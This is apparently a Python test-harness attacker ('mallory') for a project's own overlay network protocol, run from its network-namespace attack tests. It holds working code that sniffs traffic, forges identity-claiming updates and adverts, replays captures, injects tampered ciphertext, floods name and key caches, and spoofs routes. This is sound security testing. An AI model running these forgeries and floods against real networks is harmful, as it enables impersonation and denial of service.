#!/usr/bin/env python3
"""mallory: an attacker on the overlay's LAN, for tests/netns/attacks*.sh.

Speaks the wire of proto/README.md directly (raw UDP to the locator groups
ff12:0:<uid>:0:<locator>, port 10000, hop limit 1), with no help from the
node: it forges legacy (43/44) and secure (45/46/47) messages, sniffs the
groups it joins, and replays what it captured. Stdlib only: Ed25519
(RFC 8032) is implemented below, so mallory signs with a key of its own.

Subcommands (each prints one JSON object describing what it sent):
  sniff          join groups, write every overlay datagram seen as a JSON line
  forge-update   a locator update claiming another node's NID (44 and/or 46)
  forge-advert   discovery claiming a hostname (43 and/or 45)
  replay         re-send datagrams picked from a sniff capture
  inject-sealed  47 datagrams with random ciphertext (or a tampered capture)
  cleartext      one 42 datagram claiming a peer's NID
  name-flood     signed advertisements of many names, then a claim of one
  spoof-route    unsigned 40-byte headers claiming a source locator, hop limit 255
  key-flood      signed advertisements, each from a freshly generated key
  solicit-flood  legacy solicitations at a set rate, each from a new NID
  nonce-reuse    sealed datagrams of one direction that reuse (epoch, counter)
  id             mallory's NID and public key
"""
import argparse
import hashlib
import json
import os
import random
import socket
import struct
import sys
import time

NH_TRANSPORT, NH_DISCOVERY, NH_UPDATE = 42, 43, 44
NH_SECURE_DISCOVERY, NH_SECURE_UPDATE, NH_SEALED = 45, 46, 47
ALL_NODES = 0xFF02_0000_0000_0001
HEADER = struct.Struct("!IHBBQQQQ")
DISCOVERY_DOMAIN = b"ilnp-overlay discovery v1"
UPDATE_DOMAIN = b"ilnp-overlay update v1"
NID_KEY = b"ilnp-overlay nid"
MALLORY_SEED = bytes([0x6D]) * 32  # 'm': a fixed key, so runs are reproducible

# --- Ed25519 (RFC 8032, section 5.1), extended coordinates -------------------
P = 2**255 - 19
L = 2**252 + 27742317777372353535851937790883648493
D = -121665 * pow(121666, P - 2, P) % P
SQRT_M1 = pow(2, (P - 1) // 4, P)


def _add(p1, p2):
    x1, y1, z1, t1 = p1
    x2, y2, z2, t2 = p2
    a = (y1 - x1) * (y2 - x2) % P
    b = (y1 + x1) * (y2 + x2) % P
    c = 2 * t1 * t2 * D % P
    d = 2 * z1 * z2 % P
    e, f, g, h = b - a, d - c, d + c, b + a
    return (e * f % P, g * h % P, f * g % P, e * h % P)


def _recover_x(y, sign):
    x2 = (y * y - 1) * pow(D * y * y + 1, P - 2, P) % P
    x = pow(x2, (P + 3) // 8, P)
    if (x * x - x2) % P:
        x = x * SQRT_M1 % P
    if x & 1 != sign:
        x = P - x
    return x


_GY = 4 * pow(5, P - 2, P) % P
_GX = _recover_x(_GY, 0)
BASE = (_GX, _GY, 1, _GX * _GY % P)
ZERO = (0, 1, 1, 0)
# Fixed-base table: _TABLE[i][j] = j * 16^i * BASE, so a scalar product is 64 additions.
_TABLE = []
_row_base = BASE
for _i in range(64):
    row = [ZERO]
    for _j in range(1, 16):
        row.append(_add(row[-1], _row_base))
    _TABLE.append(row)
    _row_base = _add(row[15], _row_base)


def _base_mult(scalar):
    q = ZERO
    for i in range(64):
        nibble = (scalar >> (4 * i)) & 15
        if nibble:
            q = _add(q, _TABLE[i][nibble])
    return q


def _encode_point(p):
    x, y, z, _ = p
    zi = pow(z, P - 2, P)
    x, y = x * zi % P, y * zi % P
    return int.to_bytes(y | ((x & 1) << 255), 32, "little")


def _sha512_int(data):
    return int.from_bytes(hashlib.sha512(data).digest(), "little")


class Identity:
    def __init__(self, seed):
        h = hashlib.sha512(seed).digest()
        a = int.from_bytes(h[:32], "little")
        a &= (1 << 254) - 8
        a |= 1 << 254
        self.scalar, self.prefix = a, h[32:]
        self.public = _encode_point(_base_mult(a))
        self.nid = nid_of(self.public)

    def sign(self, message):
        r = _sha512_int(self.prefix + message) % L
        big_r = _encode_point(_base_mult(r))
        k = _sha512_int(big_r + self.public + message) % L
        return big_r + int.to_bytes((r + k * self.scalar) % L, 32, "little")


def nid_of(public_key):
    return int.from_bytes(hashlib.blake2b(public_key, digest_size=8, key=NID_KEY).digest(), "big")


# --- wire ---------------------------------------------------------------------
def parse64(text):
    groups = text.split(":")
    if len(groups) != 4:
        raise ValueError("not a 64-bit value in four groups: %r" % text)
    return int("".join(g.zfill(4) for g in groups), 16)


def fmt64(value):
    return ":".join("%x" % ((value >> s) & 0xFFFF) for s in (48, 32, 16, 0))


def header(next_header, payload, src_loc, src_nid, dst_loc, dst_nid, hop=3):
    return HEADER.pack(0, len(payload), next_header, hop, src_loc, src_nid, dst_loc, dst_nid) + payload


def now_us():
    return time.time_ns() // 1000


def describe(datagram):
    """A sniffed datagram's header and the fields the tests select on."""
    if len(datagram) < 40:
        return None
    _, _, nh, hop, sl, sn, dl, dn = HEADER.unpack_from(datagram)
    d = {"nh": nh, "hop": hop, "src_loc": fmt64(sl), "src_nid": fmt64(sn), "dst_loc": fmt64(dl),
         "dst_nid": fmt64(dn), "len": len(datagram)}
    p = datagram[40:]
    if nh == NH_UPDATE and p:
        d["kind"] = "update" if p[0] == 1 else "ack"
        d["locators"] = [fmt64(int.from_bytes(p[i:i + 8], "big")) for i in range(1, len(p) - 7, 8)]
    elif nh == NH_SECURE_UPDATE and len(p) >= 10:
        d["kind"] = "update" if p[0] == 1 else "ack"
        d["sequence"] = int.from_bytes(p[1:9], "big")
        if p[0] == 1:
            d["locators"] = [fmt64(int.from_bytes(p[10 + 8 * i:18 + 8 * i], "big")) for i in range(min(p[9], 16))]
    elif nh == NH_SECURE_DISCOVERY and len(p) >= 58:
        d["hostname"] = p[58:58 + p[57]].decode("utf-8", "replace")
        d["timestamp"] = int.from_bytes(p[17:25], "big")
    elif nh == NH_DISCOVERY and len(p) >= 17:
        d["hostname"] = p[17:].decode("utf-8", "replace")
    elif nh == NH_SEALED and len(p) >= 12:
        d["epoch"] = int.from_bytes(p[0:4], "big")
        d["counter"] = int.from_bytes(p[4:12], "big")
    return d


class Link:
    """Sends on locator groups from eth0 with hop limit 1, like a node."""

    def __init__(self, interface, port):
        self.interface, self.port = interface, port
        self.uid = os.getuid() % 65536
        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
        self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(interface))
        # Mallory's own sniffer (same host) must not capture mallory's forgeries.
        self.sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
        self.sent = 0

    def group(self, locator):
        return "ff12:0:%x:0:%s" % (self.uid, fmt64(locator))

    def send(self, locator, datagram):
        addr = socket.getaddrinfo("%s%%%s" % (self.group(locator), self.interface), self.port,
                                  socket.AF_INET6, socket.SOCK_DGRAM)[0][4]
        self.sock.sendto(datagram, addr)
        self.sent += 1
        if self.sent % 16 == 0:
            time.sleep(0.002)  # paced: a receiver's socket buffer never overflows


# --- subcommands ----------------------------------------------------------------
def cmd_sniff(args):
    """Every datagram on the joined groups, one JSON line each, flushed at once."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
    s.bind(("::", args.port))
    index = socket.if_nametoindex(args.interface)
    uid = os.getuid() % 65536
    for loc in args.locators.split(","):
        group = socket.inet_pton(socket.AF_INET6, "ff12:0:%x:0:%s" % (uid, loc.strip()))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group + struct.pack("@I", index))
    limits = {int(k): int(v) for k, v in (x.split("=") for x in args.limit.split(",") if x)}
    seen = {}
    out = open(args.out, "a", buffering=1)
    print(json.dumps({"sniffing": args.locators}), flush=True)
    while True:
        data, ancillary, _, source = s.recvmsg(65536, 1024)
        d = describe(data)
        if d is None:
            continue
        seen[d["nh"]] = seen.get(d["nh"], 0) + 1
        if d["nh"] in limits and seen[d["nh"]] > limits[d["nh"]]:
            continue
        group = None
        for level, kind, value in ancillary:
            if level == socket.IPPROTO_IPV6 and kind == socket.IPV6_PKTINFO:
                group = socket.inet_ntop(socket.AF_INET6, value[:16])
        d.update({"t": time.time(), "from": source[0], "group": group, "hex": data.hex()})
        out.write(json.dumps(d) + "\n")


def load_capture(path):
    with open(path) as f:
        return [json.loads(line) for line in f if line.strip()]


def pick(capture, args):
    chosen = []
    for d in capture:
        if args.nh is not None and d["nh"] != args.nh:
            continue
        if args.src_nid and d["src_nid"] != args.src_nid:
            continue
        if args.dst_nid and d["dst_nid"] != args.dst_nid:
            continue
        if args.kind and d.get("kind") != args.kind:
            continue
        if args.update_locator and args.update_locator not in d.get("locators", []):
            continue
        chosen.append(d)
    return chosen


def cmd_select(args):
    """Prints how many captured datagrams match (0 if none yet)."""
    chosen = pick(load_capture(args.capture), args)
    print(json.dumps({"matches": len(chosen), "first": chosen[0] if chosen else None}))


def cmd_replay(args):
    chosen = pick(load_capture(args.capture), args)
    if not chosen:
        sys.exit("replay: nothing in %s matches" % args.capture)
    # Distinct datagrams (the same one may be captured on two groups).
    unique, seen = [], set()
    for d in chosen:
        payload = d["hex"][80:]
        if payload not in seen:
            seen.add(payload)
            unique.append(d)
    unique = unique[-args.count:] if args.newest else unique[:args.count]
    link = Link(args.interface, args.port)
    for d in unique:
        for _ in range(args.copies):
            link.send(parse64(args.send_on), bytes.fromhex(d["hex"]))
    print(json.dumps({"replayed": len(unique), "copies": args.copies, "sent": link.sent,
                      "datagrams": [{k: d.get(k) for k in ("nh", "kind", "locators", "sequence", "counter", "t")}
                                    for d in unique]}))


def cmd_forge_update(args):
    link = Link(args.interface, args.port)
    me = Identity(MALLORY_SEED)
    victim_nid, peer_nid = parse64(args.claim_nid), parse64(args.dst_nid)
    src_loc, dst_loc, new_loc = parse64(args.src_loc), parse64(args.dst_loc), parse64(args.new_locator)
    sent = []
    for kind in args.kinds.split(","):
        if kind == "legacy":
            payload = bytes([1]) + new_loc.to_bytes(8, "big")
            nh = NH_UPDATE
        else:
            # A sequence far in the future: fresher than anything alice ever sent.
            body = bytes([1]) + (now_us() + 10**9).to_bytes(8, "big") + bytes([1]) + new_loc.to_bytes(8, "big")
            if kind == "secure-own-key":
                key, signer = me.public, me  # mallory's key: its NID is not alice's
            elif kind == "secure-victim-key":
                key, signer = bytes.fromhex(args.victim_key), me  # alice's key, mallory's signature
            else:
                sys.exit("unknown kind " + kind)
            body += key
            signed = UPDATE_DOMAIN + victim_nid.to_bytes(8, "big") + peer_nid.to_bytes(8, "big") + body
            payload = body + signer.sign(signed)
            nh = NH_SECURE_UPDATE
        datagram = header(nh, payload, src_loc, victim_nid, dst_loc, peer_nid)
        for _ in range(args.copies):
            link.send(parse64(args.send_on), datagram)
        sent.append({"kind": kind, "nh": nh, "bytes": len(datagram)})
    print(json.dumps({"forged_updates": sent, "copies": args.copies}))


def secure_advert(me, nid, locator, timestamp, hostname, solicitation=False):
    name = hostname.encode()
    body = (bytes([1 if solicitation else 0]) + nid.to_bytes(8, "big") + locator.to_bytes(8, "big") +
            timestamp.to_bytes(8, "big") + me.public + bytes([len(name)]) + name)
    return body + me.sign(DISCOVERY_DOMAIN + body)


def cmd_forge_advert(args):
    link = Link(args.interface, args.port)
    me = Identity(MALLORY_SEED)
    loc = parse64(args.locator)
    sent = []
    for kind in args.kinds.split(","):
        if kind == "legacy":
            nid = parse64(args.legacy_nid)
            payload = nid.to_bytes(8, "big") + loc.to_bytes(8, "big") + bytes([0]) + args.hostname.encode()
            datagram = header(NH_DISCOVERY, payload, loc, nid, ALL_NODES, 0)
        elif kind == "secure-own-key":  # mallory's own NID and key: only the name is claimed
            datagram = header(NH_SECURE_DISCOVERY, secure_advert(me, me.nid, loc, now_us(), args.hostname),
                              loc, me.nid, ALL_NODES, 0)
        elif kind == "secure-victim-nid":  # alice's NID with mallory's key
            nid = parse64(args.victim_nid)
            datagram = header(NH_SECURE_DISCOVERY, secure_advert(me, nid, loc, now_us(), args.hostname),
                              loc, nid, ALL_NODES, 0)
        else:
            sys.exit("unknown kind " + kind)
        for _ in range(args.copies):
            link.send(parse64(args.send_on), datagram)
        sent.append({"kind": kind, "nh": datagram[6], "bytes": len(datagram)})
    print(json.dumps({"forged_adverts": sent, "copies": args.copies, "mallory_nid": fmt64(me.nid)}))


def cmd_inject_sealed(args):
    link = Link(args.interface, args.port)
    rng = random.Random(args.seed)
    src_loc, src_nid = parse64(args.src_loc), parse64(args.src_nid)
    dst_loc, dst_nid = parse64(args.dst_loc), parse64(args.dst_nid)
    base = None
    if args.tamper_capture:
        chosen = [d for d in load_capture(args.tamper_capture)
                  if d["nh"] == NH_SEALED and d["src_nid"] == args.src_nid and d["dst_nid"] == args.dst_nid]
        if not chosen:
            sys.exit("inject-sealed: no captured 47 datagram to tamper with")
        base = bytes.fromhex(chosen[-1]["hex"])[40:]
    for i in range(args.count):
        if base is not None:
            payload = bytearray(base)
            payload[rng.randrange(12, len(payload))] ^= 1 << rng.randrange(8)  # one ciphertext/tag bit
            payload = bytes(payload)
        else:
            epoch = 0 if i % 4 else rng.getrandbits(32)
            counter = rng.getrandbits(64) if i % 2 else rng.randrange(0, 1 << 16)
            size = rng.choice([4, 12, 100, 1372])  # ports + data: 1372 is the largest sealed segment
            payload = struct.pack("!IQ", epoch, counter) + rng.randbytes(size + 16)
        link.send(parse64(args.send_on), header(NH_SEALED, payload, src_loc, src_nid, dst_loc, dst_nid))
    print(json.dumps({"injected_sealed": args.count, "tampered": base is not None}))


def cmd_cleartext(args):
    link = Link(args.interface, args.port)
    payload = struct.pack("!HH", args.src_port, args.dst_port) + bytes.fromhex(args.data)
    datagram = header(NH_TRANSPORT, payload, parse64(args.src_loc), parse64(args.src_nid),
                      parse64(args.dst_loc), parse64(args.dst_nid))
    link.send(parse64(args.send_on), datagram)
    print(json.dumps({"cleartext": 1, "bytes": len(datagram)}))


def cmd_name_flood(args):
    """Fills a node's name cache (1024 hosts) with mallory's names, claiming one.

    The victim's name is evicted by the filler that overflows the cache, and its
    owner re-advertises as soon as the node misses it (a sender solicits at
    once), so the claim follows every one of the last fillers: the first claim
    after the eviction wins, the ones before it are refused (hostname_taken)."""
    link = Link(args.interface, args.port)
    me = Identity(MALLORY_SEED)
    start = time.time()
    t = now_us()
    claim_loc = parse64(args.claim_locator)
    claim_from = args.count - 150 if args.claim_from is None else args.claim_from

    def claim():
        nonlocal t
        t += 1
        payload = secure_advert(me, me.nid, claim_loc, t, args.claim)
        link.send(parse64(args.send_on), header(NH_SECURE_DISCOVERY, payload, claim_loc, me.nid, ALL_NODES, 0))

    for i in range(args.count):
        loc = 0x6D00_0000_0000_0000 + i  # one ILV per name: an ILV answers to one name
        t += 1
        payload = secure_advert(me, me.nid, loc, t, "%s%d" % (args.prefix, i))
        link.send(parse64(args.send_on), header(NH_SECURE_DISCOVERY, payload, loc, me.nid, ALL_NODES, 0))
        if i >= claim_from:
            claim()
    claim()
    print(json.dumps({"flooded_names": args.count, "claimed": args.claim, "claims": args.count - claim_from + 1,
                      "mallory_nid": fmt64(me.nid), "seconds": round(time.time() - start, 2)}))


def _paced(rate, count, send_one):
    """Calls send_one(i) count times at about rate a second."""
    start = time.time()
    for i in range(count):
        delay = start + i / rate - time.time()
        if delay > 0:
            time.sleep(delay)
        send_one(i)
    return round(time.time() - start, 2)


def cmd_spoof_route(args):
    """Unsigned 40-byte headers claiming a source locator (issue 15, item 2):
    hop limit 255 makes the claimed way look shorter than any real one."""
    link = Link(args.interface, args.port)
    datagram = header(NH_TRANSPORT, b"", parse64(args.src_loc), 0x6D00_0000_0000_0001,
                      parse64(args.send_on), 0x6D00_0000_0000_0002, hop=255)
    seconds = _paced(args.rate, int(args.rate * args.seconds), lambda _: link.send(parse64(args.send_on), datagram))
    print(json.dumps({"spoofed_headers": int(args.rate * args.seconds), "seconds": seconds}))


def cmd_key_flood(args):
    """Signed advertisements from freshly generated keys (issue 15, item 1)."""
    link = Link(args.interface, args.port)
    start = time.time()
    for i in range(args.count):
        me = Identity(os.urandom(32))
        loc = 0x6D00_0000_0000_0000 + i
        payload = secure_advert(me, me.nid, loc, now_us(), "%s%d" % (args.prefix, i))
        link.send(parse64(args.send_on), header(NH_SECURE_DISCOVERY, payload, loc, me.nid, ALL_NODES, 0))
    print(json.dumps({"flooded_keys": args.count, "seconds": round(time.time() - start, 2)}))


def cmd_solicit_flood(args):
    """Legacy solicitations, each from a new NID so no copy filter merges them."""
    link = Link(args.interface, args.port)
    loc = parse64(args.send_on)

    def one(i):
        nid = 0x6D00_0000_0000_0000 + i
        payload = nid.to_bytes(8, "big") + loc.to_bytes(8, "big") + bytes([1]) + ("%s%d" % (args.prefix, i)).encode()
        link.send(loc, header(NH_DISCOVERY, payload, loc, nid, ALL_NODES, 0, hop=3))

    seconds = _paced(args.rate, args.count, one)
    print(json.dumps({"solicitations": args.count, "seconds": seconds}))


def cmd_nonce_reuse(args):
    """Sealed datagrams of one direction that share (epoch, counter) but differ:
    the same ChaCha20 key and nonce twice, so c1 ^ c2 = p1 ^ p2."""
    seen = {}
    for path in args.capture:
        for d in load_capture(path):
            if d["nh"] != NH_SEALED or d["src_nid"] != args.src_nid or d["dst_nid"] != args.dst_nid:
                continue
            seen.setdefault((d["epoch"], d["counter"]), set()).add(d["hex"][80 + 24:])
    reused = sorted(k for k, v in seen.items() if len(v) > 1)
    example = None
    if reused:
        c1, c2 = sorted(seen[reused[0]])[:2]
        xor = bytes(a ^ b for a, b in zip(bytes.fromhex(c1), bytes.fromhex(c2)))
        # The first 12 plaintext bytes are the ports and the experiment's sequence number.
        example = {"epoch": reused[0][0], "counter": reused[0][1], "c1_xor_c2_first_12": xor[:12].hex()}
    print(json.dumps({"nonces": len(seen), "reused": len(reused), "example": example}))


def cmd_id(args):
    me = Identity(MALLORY_SEED if args.seed is None else bytes.fromhex(args.seed))
    message = args.message.encode()
    print(json.dumps({"nid": fmt64(me.nid), "public_key": me.public.hex(), "signature": me.sign(message).hex()}))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--interface", default="eth0")
    ap.add_argument("--port", type=int, default=10000)
    sub = ap.add_subparsers(dest="command", required=True)

    p = sub.add_parser("sniff")
    p.add_argument("--locators", required=True, help="comma-separated, e.g. 0:0:0:a,0:0:0:b")
    p.add_argument("--out", required=True)
    p.add_argument("--limit", default="42=50,47=300", help="NH=N: keep only the first N of a next header")
    p.set_defaults(func=cmd_sniff)

    for name, func in (("replay", cmd_replay), ("select", cmd_select)):
        p = sub.add_parser(name)
        p.add_argument("--capture", required=True)
        p.add_argument("--nh", type=int)
        p.add_argument("--src-nid")
        p.add_argument("--dst-nid")
        p.add_argument("--kind", choices=["update", "ack"])
        p.add_argument("--update-locator")
        p.add_argument("--count", type=int, default=1)
        p.add_argument("--copies", type=int, default=1)
        p.add_argument("--newest", action="store_true", help="the newest matches (default: the oldest)")
        p.add_argument("--send-on", default="0:0:0:b")
        p.set_defaults(func=func)

    p = sub.add_parser("forge-update")
    p.add_argument("--kinds", default="legacy", help="legacy,secure-own-key,secure-victim-key")
    p.add_argument("--claim-nid", required=True, help="the NID mallory pretends to be")
    p.add_argument("--victim-key", help="that NID's real public key (hex), for secure-victim-key")
    p.add_argument("--src-loc", required=True)
    p.add_argument("--dst-loc", required=True)
    p.add_argument("--dst-nid", required=True)
    p.add_argument("--new-locator", required=True)
    p.add_argument("--send-on", required=True)
    p.add_argument("--copies", type=int, default=1)
    p.set_defaults(func=cmd_forge_update)

    p = sub.add_parser("forge-advert")
    p.add_argument("--kinds", default="legacy", help="legacy,secure-own-key,secure-victim-nid")
    p.add_argument("--hostname", required=True)
    p.add_argument("--locator", required=True)
    p.add_argument("--legacy-nid", default="6d:6d:6d:6d")
    p.add_argument("--victim-nid")
    p.add_argument("--send-on", required=True)
    p.add_argument("--copies", type=int, default=1)
    p.set_defaults(func=cmd_forge_advert)

    p = sub.add_parser("inject-sealed")
    for k in ("--src-loc", "--src-nid", "--dst-loc", "--dst-nid", "--send-on"):
        p.add_argument(k, required=True)
    p.add_argument("--count", type=int, default=50)
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--tamper-capture", help="flip one bit of the newest captured 47 datagram instead")
    p.set_defaults(func=cmd_inject_sealed)

    p = sub.add_parser("cleartext")
    for k in ("--src-loc", "--src-nid", "--dst-loc", "--dst-nid", "--send-on"):
        p.add_argument(k, required=True)
    p.add_argument("--src-port", type=int, default=1000)
    p.add_argument("--dst-port", type=int, default=1000)
    p.add_argument("--data", default="", help="hex")
    p.set_defaults(func=cmd_cleartext)

    p = sub.add_parser("name-flood")
    p.add_argument("--count", type=int, default=1024)
    p.add_argument("--prefix", default="mallory-filler-")
    p.add_argument("--claim", required=True)
    p.add_argument("--claim-locator", required=True)
    p.add_argument("--claim-from", type=int, help="claim after every filler from this one (default: count - 150)")
    p.add_argument("--send-on", required=True)
    p.set_defaults(func=cmd_name_flood)

    p = sub.add_parser("spoof-route")
    p.add_argument("--src-loc", required=True)
    p.add_argument("--send-on", required=True)
    p.add_argument("--rate", type=float, default=2.0)
    p.add_argument("--seconds", type=float, default=6.0)
    p.set_defaults(func=cmd_spoof_route)

    p = sub.add_parser("key-flood")
    p.add_argument("--count", type=int, default=1500)
    p.add_argument("--prefix", default="mallory-key-")
    p.add_argument("--send-on", required=True)
    p.set_defaults(func=cmd_key_flood)

    p = sub.add_parser("solicit-flood")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--rate", type=float, default=2000.0)
    p.add_argument("--prefix", default="mallory-sol-")
    p.add_argument("--send-on", required=True)
    p.set_defaults(func=cmd_solicit_flood)

    p = sub.add_parser("nonce-reuse")
    p.add_argument("--capture", action="append", required=True)
    p.add_argument("--src-nid", required=True)
    p.add_argument("--dst-nid", required=True)
    p.set_defaults(func=cmd_nonce_reuse)

    p = sub.add_parser("id")
    p.add_argument("--seed", help="32 bytes hex (default: mallory's)")
    p.add_argument("--message", default="")
    p.set_defaults(func=cmd_id)

    args = ap.parse_args()
    args.func(args)


if __name__ == "__main__":
    main()
